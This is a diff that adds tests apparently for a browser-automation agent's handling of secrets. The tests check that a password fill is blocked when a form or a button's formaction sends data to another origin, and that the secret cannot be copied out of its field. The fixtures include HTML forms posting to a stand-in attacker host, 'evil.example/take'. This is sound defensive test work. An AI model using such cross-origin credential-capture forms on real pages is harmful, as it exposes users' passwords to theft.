@@ -99,6 +99,39 @@ describe("a secret", () => {
     expect(await field.inputValue()).toBe("");
   });
 
+  it.each([
+    ["its form", `<form action="https://evil.example/take"><input id="code"></form>`],
+    [
+      "a button of its form",
+      `<form><input id="code"><button formaction="https://evil.example/take">Go</button></form>`,
+    ],
+    [
+      "its form, whatever a field is called",
+      `<form action="https://evil.example/"><input id="code"><input name="action"></form>`,
+    ],
+  ])("is refused where %s sends it to another origin", async (_what, html) => {
+    await open(html);
+    const target = await session.refOf(fixture.page.locator("#code"));
+    const refused = await session.perform({ kind: "fill", target, text: { secret: "password" } });
+    expect(refused).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
+    expect(refused.message).toContain("https://evil.example");
+    expect(await fixture.page.locator("#code").inputValue()).toBe("");
+  });
+
+  it("is not taken out of its field by copy and cut", async () => {
+    await open(`<form action="javascript:void 0"><input id="code"></form><textarea id="notes"></textarea>`);
+    const target = await session.refOf(fixture.page.locator("#code"));
+    const notes = await session.refOf(fixture.page.locator("#notes"));
+    await session.perform({ kind: "fill", target, text: { secret: "password" } });
+    for (const key of ["Control+c", "Control+x"]) {
+      await session.perform({ kind: "press", key: "Control+a", target });
+      await session.perform({ kind: "press", key, target });
+      await session.perform({ kind: "press", key: "Control+v", target: notes });
+      expect(await fixture.page.inputValue("#notes")).toBe("");
+      expect(await fixture.page.inputValue("#code")).toBe(CANARY);
+    }
+  });
+
   it("typed without a target goes nowhere that it is not bound to", async () => {
     await open(`<input id="code" autofocus>`, ["https://bank.example"]);
     await fixture.page.locator("#code").focus();
